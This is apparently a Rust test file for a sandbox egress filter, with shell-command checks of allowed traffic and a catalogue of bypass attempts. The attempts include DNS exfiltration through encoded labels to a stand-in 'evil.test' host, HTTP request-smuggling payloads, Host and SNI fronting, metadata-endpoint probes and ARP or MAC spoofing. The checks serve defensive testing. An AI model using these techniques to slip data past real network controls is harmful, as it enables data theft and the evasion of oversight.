//! The checks: a row of the catalogue of bypasses (docs/egress-tests.md), a command, what must come of it.

/// One check.
pub(super) struct Check {
    /// The row of the catalogue; empty where it is about what must work.
    pub(super) row: &'static str,
    /// What it is about.
    pub(super) name: &'static str,
    /// A shell script, with the functions of the prelude.
    pub(super) script: &'static str,
    /// Parts of its output, both streams and its status; what begins with `!` must not be there.
    expect: &'static [&'static str],
}

impl Check {
    /// What is not as it must be.
    pub(super) fn wrong(&self, output: &str) -> Vec<&'static str> {
        let is_right = |part: &&&str| match part.strip_prefix('!') {
            Some(part) => !output.contains(part),
            None => output.contains(**part),
        };
        self.expect.iter().filter(|part| !is_right(part)).copied().collect()
    }
}

const fn check(row: &'static str, name: &'static str, script: &'static str, expect: &'static [&'static str]) -> Check {
    Check { row, name, script, expect }
}

/// Quick ones.
pub(super) const TOOLS: &[Check] = &[
    // What must work.
    check("", "curl over https", "page https://www.example.com/", &["hello from www.example.com", "[status 0]"]),
    check("", "wget over https", "wget -qO- https://two.example.com/", &["hello from two.example.com", "[status 0]"]),
    check(
        "",
        "curl over http",
        "page 'http://www.example.com/?secret-query' -H 'X: secret-header'",
        &["hello from www.example.com"],
    ),
    check("", "a name below a wildcard", "page https://any.wild.example.com/", &["hello from any.wild.example.com"]),
    check(
        "",
        "5 MB down",
        "page 'https://www.example.com/big?5000000' | sha256sum",
        &["cbe688e22ee2c7f3c8cd71aebd4f8ff72de3c7d3e7b1d1037cb39be2c4830d94"],
    ),
    check(
        "",
        "5 MB up",
        "head -c 5000000 /dev/zero | page -T - https://www.example.com/put",
        &["5000000 b39781589c4403fb82174c9647a010464cff38bad976547d339899b00053a545\n"],
    ),
    check("", "a slow server", "page https://www.example.com/slow", &["slowly but surely[status 0]"]),
    // Names.
    check("9", "an AAAA of dig's", "dig AAAA www.example.com", &["status: NOERROR", "ANSWER: 0", "SOA"]),
    check("9", "getaddrinfo", "at_once getent ahosts www.example.com", &["198.18.1.", "at-once", "!::"]),
    // Whether curl finds no address or one that it cannot connect to depends on its C library.
    check("9", "curl -6", "at_once page -6 https://www.example.com/", &["at-once", "curl: (", "!hello", "!status 0"]),
    check(
        "36",
        "data in labels",
        "dig 6461746120676f6573206f7574.evil.test",
        &["NXDOMAIN", "EDE: 15", "denied by sandbox policy"],
    ),
    check(
        "36",
        "a long name",
        "l=$(printf 'a%.0s' $(seq 63)); dig $l.$l.$l.evil.test",
        &["NXDOMAIN", "denied by sandbox policy"],
    ),
    check(
        "37",
        "eighty names below a wildcard",
        "for n in $(seq 80); do echo d$n.wild.example.com; done >/tmp/names; dig +short -f /tmp/names | sort -u | wc -l",
        // One was given before.
        &["63\n"],
    ),
    check(
        "38",
        "types that carry data",
        "for t in TXT NULL MX SRV CAA PTR NS; do dig +noall +comments $t www.example.com; done",
        &["status: NOERROR", "ANSWER: 0", "!ANSWER: 1", "!NXDOMAIN"],
    ),
    check("38", "ANY", "dig ANY www.example.com", &["status: NOTIMP", "ANSWER: 0"]),
    check("38", "a zone transfer", "dig AXFR www.example.com", &["Transfer failed"]),
    check(
        "39",
        "HTTPS and SVCB",
        "dig TYPE65 www.example.com; dig TYPE64 www.example.com",
        &["status: NOERROR", "!ANSWER: 1"],
    ),
    check(
        "40",
        "another server",
        "dig +short @8.8.8.8 www.example.com; dig @9.9.9.9 denied.example.net",
        &["198.18.1.", "NXDOMAIN"],
    ),
    check(
        "40",
        "another server over TCP",
        "dig +tcp @1.1.1.1 denied.example.net",
        &["NXDOMAIN", "denied by sandbox policy"],
    ),
    check("40", "DNS over TLS", "dig +tls +tries=1 @1.1.1.1 www.example.com", &["refused", "!198.18."]),
    check("40", "DNS over HTTPS by address", "dig +https +tries=1 @1.1.1.1 www.example.com", &["refused", "!198.18."]),
    check(
        "41",
        "DNS over HTTPS by name",
        "page --doh-url https://dns.google/dns-query https://www.example.com/",
        &["[status 6]"],
    ),
    check("41", "DNS over HTTPS below a wildcard", "dig mozilla.cloudflare-dns.com", &["NXDOMAIN", "policy"]),
    check(
        "53",
        "other questions",
        "dig -c CH TXT version.bind; dig +opcode=STATUS www.example.com",
        &["NOTIMP", "!NOERROR"],
    ),
    check("54", "a name in any case", "dig +short WwW.ExAmPlE.cOm.", &["198.18.1."]),
    check("54", "the root and a single label", "dig . A; dig www", &["REFUSED", "NXDOMAIN"]),
    check(
        "56",
        "special names",
        "for n in localhost metadata.google.internal host.docker.internal wpad printer.local 1.0.18.198.in-addr.arpa; do dig $n; done \
         | grep -c NXDOMAIN",
        &["6\n"],
    ),
    check(
        "92",
        "names that look alike",
        "for n in wild.example.com gone.wild.example.com www.example.com.evil.test evilwww.example.com example.com; do dig $n; done \
         | grep -c NXDOMAIN",
        &["5\n"],
    ),
    // Addresses.
    check("49", "an address", "at_once page https://93.184.216.40/", &["at-once", "[status 7]"]),
    check(
        "49",
        "an address for an allowed name",
        "at_once page --resolve www.example.com:443:93.184.216.40 https://www.example.com/",
        &["at-once", "[status 7]"],
    ),
    check(
        "51",
        "a guessed address",
        "at_once nc -z -w 5 198.18.77.7 443; at_once nc -z -w 5 198.19.3.4 443",
        &["at-once", "[status 1]"],
    ),
    check(
        "48",
        "another name at the same address",
        "a=$(dig +short www.example.com); page --resolve denied.example.com:443:$a https://denied.example.com/",
        &["!hello", "[status 35]"],
    ),
    check("48", "a name that no rule has", "at_once page https://denied.example.com/", &["at-once", "[status 6]"]),
    check(
        "42",
        "names that mean the host's own networks",
        "for n in private rfc1918 metadata loopback anything carrier azure pool alias; do nc -z -w 9 $n.example.com 7000 && echo $n; done; \
         dig +short private.example.com",
        &[
            "198.18.1.",
            "!private",
            "!rfc1918",
            "!metadata",
            "!loopback",
            "!anything",
            "!carrier",
            "!azure",
            "!pool",
            "!alias",
        ],
    ),
    check(
        "43",
        "IPv4 in IPv6",
        "for n in mapped nat64 local6; do nc -z -w 9 $n.example.com 7000 && echo $n; done; echo tried",
        &["!mapped", "!nat64", "!local6", "tried"],
    ),
    check(
        "44",
        "the host and its router",
        "for n in host router; do nc -z -w 9 $n.example.com 7000 && echo $n; done; echo tried",
        &["!host", "!router", "tried"],
    ),
    check(
        "46",
        "a name that changes",
        "n=0; for i in 1 2 3 4 5 6; do nc -z -w 9 flip.example.com 7000 && n=$((n + 1)); done; [ $n -ge 1 ] && [ $n -le 5 ] && echo some",
        &["some\n"],
    ),
    check("47", "an alias of another zone", "echo chained | nc -N -w 9 chain.example.com 7000", &["chained\n"]),
    check("", "a name that does not exist", "at_once nc -z -w 9 none.example.com 7000", &["at-once", "[status 1]"]),
    check(
        "13",
        "special destinations",
        "for a in 240.0.0.1 224.0.0.1 0.1.2.3; do nc -z -w 1 $a 80 && echo $a; done; echo tried",
        &["!240.", "!224.", "!0.1.", "tried"],
    ),
    check(
        "27",
        "ports of an allowed name",
        "open_ports www.example.com 1 22 25 53 80 110 443 465 587 853 3306 7000 8080 65535",
        &[
            // Questions over TCP are answered whatever server is asked.
            "53 80 443 \n",
        ],
    ),
    check("101", "ports of the gateway", "open_ports 198.18.0.1 22 53 67 80 443 853 3128 7000 8080", &["53 \n"]),
    check(
        "101",
        "the host",
        "open_ports 127.0.0.1 7000; open_ports 89.1.0.1 22 53 7000; open_ports 10.0.0.5 7000",
        &["\n53 \n\n"],
    ),
    check(
        "15",
        "echo",
        "ping -c 1 -W 3 198.18.0.1; ping -c 1 -W 1 8.8.8.8; ping -c 1 -W 1 -s 1400 93.184.216.40",
        &["1 received", "!bytes from 8.", "!bytes from 93."],
    ),
    check(
        "9",
        "echo over IPv6",
        "ping -6 -c 1 -W 1 ff02::1%eth0; ip -6 addr show dev eth0",
        &["!bytes from", "!inet6"],
    ),
    check(
        "18",
        "UDP to another port",
        "at_once dig +tries=1 +time=9 @8.8.8.8 -p 123 www.example.com",
        &["refused", "at-once"],
    ),
    check("17", "mDNS", "dig +tries=1 +time=1 @224.0.0.251 -p 5353 www.local", &["!ANSWER"]),
    // TLS.
    check("59", "no server name", "certificates -connect www.example.com:443 -noservername", &["0\n"]),
    check(
        "60",
        "another allowed name's",
        "certificates -connect www.example.com:443 -servername two.example.com",
        &["0\n"],
    ),
    check(
        "66",
        "the same in capitals",
        "certificates -connect www.example.com:443 -servername WWW.EXAMPLE.COM",
        &["1\n"],
    ),
    check(
        "66",
        "an address as server name",
        "certificates -connect www.example.com:443 -servername 93.184.216.40",
        &["0\n"],
    ),
    check(
        "70",
        "an offer of h2",
        "certificates -connect www.example.com:443 -servername www.example.com -alpn h2,http/1.1",
        &["1\n"],
    ),
    check(
        "61",
        "another Host inside of TLS",
        "page -H 'Host: fronted.example.net' https://www.example.com/",
        &["hello from fronted"],
    ),
    check("68", "HTTP where TLS is due", "page http://www.example.com:443/", &["!hello", "![status 0]"]),
    check("28", "SSH where TLS is due", "ssh -o ConnectTimeout=20 -p 443 www.example.com true", &["[status 255]"]),
    check(
        "28",
        "HTTP where SSH is due",
        "say git.example.com 22 'GET / HTTP/1.1\\r\\n\\r\\n'",
        &["!Invalid", "!HTTP/1"],
    ),
    check("30", "STARTTLS where TLS is due", "certificates -connect www.example.com:443 -starttls smtp", &["0\n"]),
    check("30", "STARTTLS under a raw rule", "certificates -connect www.example.com:7025 -starttls smtp", &["1\n"]),
    // HTTP.
    check(
        "74",
        "another Host",
        "page -i -H 'Host: two.example.com' http://www.example.com/",
        &["HTTP/1.1 421", "policy", "!hello"],
    ),
    check("74", "no Host", "say www.example.com 80 'GET /smuggled HTTP/1.1\\r\\n\\r\\n'", &["HTTP/1.1 400"]),
    check(
        "74",
        "two Hosts",
        "say www.example.com 80 'GET /smuggled HTTP/1.1\\r\\nHost: www.example.com\\r\\nHost: evil.test\\r\\n\\r\\n'",
        &["HTTP/1.1 400"],
    ),
    check(
        "76",
        "a second request for another Host",
        "say www.example.com 80 'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: two.example.com\\r\\n\\r\\n'",
        &["hello from www.example.com", "HTTP/1.1 421"],
    ),
    check("77", "HTTP/2 at once", "page --http2-prior-knowledge http://www.example.com/", &["!hello", "![status 0]"]),
    check(
        "77",
        "HTTP/2 by an upgrade",
        "page -i --http2 http://www.example.com/",
        &["HTTP/1.1 403", "policy", "!hello"],
    ),
    check("78", "CONNECT", "page -x http://www.example.com:80 https://denied.example.net/", &["403", "[status 56]"]),
    check(
        "78",
        "a whole URL",
        "page -i -x http://www.example.com:80 http://www.example.com/smuggled",
        &["HTTP/1.1 400"],
    ),
    check("78", "TRACE", "page -i -X TRACE http://www.example.com/", &["HTTP/1.1 403", "policy"]),
    check(
        "78",
        "a rule to read alone",
        "page -i http://ro.example.com/; page -i -d x http://ro.example.com/smuggled",
        &["hello from ro.example.com", "HTTP/1.1 403"],
    ),
    check(
        "79",
        "two lengths of one body",
        "say www.example.com 80 'POST /put HTTP/1.1\\r\\nHost: www.example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n\
         0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n'",
        &["HTTP/1.1 400", "!HTTP/1.1 200"],
    ),
    check(
        "79",
        "encodings that readers differ about",
        "for te in xchunked identity 'chunked, chunked' 'chunked\\r\\nTransfer-Encoding: identity' '\\013chunked' 'gzip, chunked'; do \
         say www.example.com 80 'POST /smuggled HTTP/1.1\\r\\nHost: www.example.com\\r\\nTransfer-Encoding: '\"$te\"'\\r\\n\\r\\n0\\r\\n\\r\\n'; \
         done | grep -c '^HTTP/1.1 400'",
        &["6\n"],
    ),
    check(
        "79",
        "bare line feeds",
        "say www.example.com 80 'GET /smuggled HTTP/1.1\\nHost: www.example.com\\n\\n'",
        &["HTTP/1.1 400"],
    ),
    check(
        "80",
        "answers that are not strictly framed",
        "for a in both twice split chunks; do page http://www.example.com/hostile/$a && echo passed; done",
        &["!evil", "!passed"],
    ),
    check(
        "84",
        "a large head",
        "page -o /dev/null -w '%{http_code}' -H \"X: $(head -c 40000 /dev/zero | tr '\\0' a)\" http://www.example.com/",
        &["431"],
    ),
    check(
        "84",
        "a long target",
        "page -o /dev/null -w '%{http_code}' http://www.example.com/$(head -c 9000 /dev/zero | tr '\\0' a)",
        &["414"],
    ),
    check(
        "86",
        "a redirect to a denied host",
        "page -L https://www.example.com/redirect",
        &["denied.example.net", "[status 6]"],
    ),
    check(
        "104",
        "a proxy of its own",
        "https_proxy=http://10.0.0.5:3128 page https://www.example.com/",
        &["!hello", "![status 0]"],
    ),
];

/// What takes its time, beside the quick ones.
pub(super) const SLOW: &[Check] = &[
    check("", "connections by hand", "python3 /tmp/talk.py >/tmp/talk; wc -l </tmp/talk", &["17\n"]),
    check("63", "a hello byte by byte", "grep pieces-of-one /tmp/talk", &[": hello from www.example.com"]),
    check(
        "64",
        "a hello in records of five bytes",
        "grep records-of-five /tmp/talk",
        &[": hello from www.example.com"],
    ),
    check("65", "a large hello", "grep large-hello /tmp/talk", &[": hello from www.example.com"]),
    check("62", "an encrypted hello", "grep -E '^(ech|esni)' /tmp/talk", &["!answered", "ech: ", "esni: "]),
    check("62", "another extension", "grep any-extension /tmp/talk", &["answered"]),
    check("82", "a websocket", "grep websocket: /tmp/talk", &["echoed"]),
    check("82", "a websocket over TLS", "grep websocket-tls /tmp/talk", &["echoed"]),
    check("34", "a websocket without its rule", "grep websocket-without-rule /tmp/talk", &["HTTP/1.1 403"]),
    check(
        "31",
        "half-closes",
        "grep -E 'first|both' /tmp/talk",
        &["guest-first: 3 294", "server-first: goodbye", "both-at-once: goodbye"],
    ),
    check("31", "a reset", "grep reset: /tmp/talk", &["gone"]),
    check("21", "a hello that takes too long", "grep slow-hello /tmp/talk", &["slow-hello: "]),
    check("102", "the host by vsock", "grep vsock /tmp/talk", &["vsock: ", "!connected"]),
    check("58", "a guard against forgery", "grep guard /tmp/talk", &["private"]),
    check("53", "questions that are none", "grep broken-names /tmp/talk", &["1 1 1 1 1\n"]),
    check("", "a command over SSH", "ssh git.example.com 'echo it is $(whoami)'", &["it is root", "[status 0]"]),
    check(
        "",
        "a clone over https",
        "git clone -q https://git.example.com/repo.git a && git -C a log --oneline | wc -l",
        &["3\n"],
    ),
    check(
        "",
        "a push over https",
        "cd a && seq 9 >new && git add . && git commit -qm new && git push -q origin HEAD:next && echo pushed",
        &["pushed\n"],
    ),
    check(
        "",
        "a clone over ssh",
        "git clone -q -b next ssh://git.example.com/srv/repo.git b && git -C b log --oneline | wc -l",
        &["4\n"],
    ),
    check(
        "",
        "pip install",
        "pip install -q --target /tmp/pip --index-url https://pypi.example.com/simple/ tiny; \
         PYTHONPATH=/tmp/pip python3 -c 'import tiny; print(tiny.VALUE)'",
        &["42\n[status 0]"],
    ),
    check(
        "",
        "npm install",
        "mkdir /tmp/npm && cd /tmp/npm && npm install --registry=https://npm.example.com tiny && node -p 'require(\"tiny\")'",
        &["42\n[status 0]"],
    ),
];

/// What needs that nothing else goes on.
pub(super) const ALONE: &[Check] = &[
    check("126", "control characters in a name", r"dig 'x\010y\027z.evil.test'", &["status: FORMERR"]),
    check(
        "",
        "frames by hand",
        "python3 /tmp/frames.py >/tmp/frames; cat /tmp/frames",
        &["control answered", "[status 0]"],
    ),
    check("1", "other types of frames", "grep ethertypes /tmp/frames", &["silence"]),
    check("2", "VLAN tags", "grep vlan /tmp/frames", &["silence"]),
    check("3", "lengths for types", "grep llc /tmp/frames", &["silence"]),
    check("6", "another link-layer address", "grep other-mac /tmp/frames", &["silence"]),
    check("7", "ARP for others", "grep arp-others /tmp/frames", &["silence"]),
    check(
        "7",
        "ARP that claims the gateway",
        "grep arp-claims /tmp/frames; page http://www.example.com/",
        &["silence", "hello"],
    ),
    check("8", "a DHCP server", "grep dhcp-server /tmp/frames", &["silence"]),
    check("9", "IPv6", "grep ipv6 /tmp/frames", &["silence"]),
    check("10", "fragments", "grep fragments /tmp/frames", &["silence"]),
    check("11", "IP options", "grep options /tmp/frames", &["silence"]),
    check("13", "frames to special addresses", "grep special /tmp/frames", &["silence"]),
    check("14", "other protocols", "grep protocols /tmp/frames", &["silence"]),
    check("15", "other ICMP", "grep icmp /tmp/frames", &["silence"]),
    check("17", "multicast", "grep multicast /tmp/frames", &["silence"]),
    check("", "another's source address", "grep other-source /tmp/frames", &["silence"]),
    check(
        "",
        "a hundred connections at a time",
        "sleep 7; page -Z --parallel-immediate --parallel-max 100 'http://www.example.com/meet?[1-100]' | grep -c met",
        &["100\n"],
    ),
    check(
        "7",
        "arping",
        "arping -c 1 -w 3 -I eth0 198.18.0.1; arping -c 1 -w 1 -I eth0 198.18.0.9",
        &["Received 1 response", "Received 0 response"],
    ),
    check(
        "8",
        "a DHCP client",
        "busybox udhcpc -n -q -f -t 3 -i eth0 -s /bin/true",
        &["lease of 198.18.0.2 obtained from 198.18.0.1"],
    ),
    check(
        "6",
        "the interface with another address",
        "old=$(cat /sys/class/net/eth0/address); ip link set dev eth0 address 02:00:00:00:00:77; page --max-time 3 http://www.example.com/; \
         ip link set dev eth0 address $old; echo back; page http://www.example.com/",
        &["timed out", "back\nhello from www.example.com"],
    ),
];

/// With all the time that they could use.
pub(super) const SOAK: &[Check] = &[
    check("", "1 GiB down", "echo 1073741824 | nc raw.example.com 7002 | wc -c", &["1073741824\n"]),
    check("", "1 GiB up", "head -c 1073741824 /dev/zero | nc -N raw.example.com 7001", &["1073741824 0"]),
    check(
        "",
        "1 GB down over https",
        "page --max-time 2400 'https://www.example.com/big?1000000000' | wc -c",
        &["1000000000\n"],
    ),
    check(
        "107",
        "a reader that sleeps",
        "page --max-time 1200 'https://www.example.com/big?200000000' | (sleep 20; wc -c)",
        &["200000000\n"],
    ),
    check(
        "",
        "a hundred connections over https",
        "sleep 7; page -Z --parallel-immediate --parallel-max 100 'https://www.example.com/?[1-100]' | grep -c hello",
        &["100\n"],
    ),
];

/// What holds under it.
pub(super) const NEXT_CHECKS: &[Check] = &[
    check(
        "94",
        "an allowed path",
        "page http://www.example.com/; page -i http://www.example.com/simple/tiny/",
        &["hello", "HTTP/1.1 200"],
    ),
    check("94", "another path", "page -i 'http://www.example.com/big?250'", &["HTTP/1.1 403", "policy"]),
    check(
        "94",
        "a path that climbs",
        "page -i --path-as-is http://www.example.com/simple/../smuggled",
        &["HTTP/1.1 403"],
    ),
    check("78", "another method", "page -i -X DELETE http://www.example.com/", &["HTTP/1.1 403"]),
    check(
        "100",
        "what the first policy allowed",
        "at_once page https://www.example.com/; page https://pypi.example.com/",
        &["at-once", "[status 6]", "!hello"],
    ),
    check("100", "what both allow", "page -o /dev/null -w '%{http_code}' https://git.example.com/", &["200"]),
];

/// What holds when the filter is gone.
pub(super) const AFTER: &[Check] = &[
    check(
        "105",
        "no way out",
        "page --max-time 4 http://www.example.com/; nc -z -w 2 198.18.1.1 80; ping -c 1 -W 1 198.18.0.1",
        &["!hello", "0 received", "[status 1]"],
    ),
    check("105", "the run goes on", "echo alive", &["alive\n[status 0]"]),
];
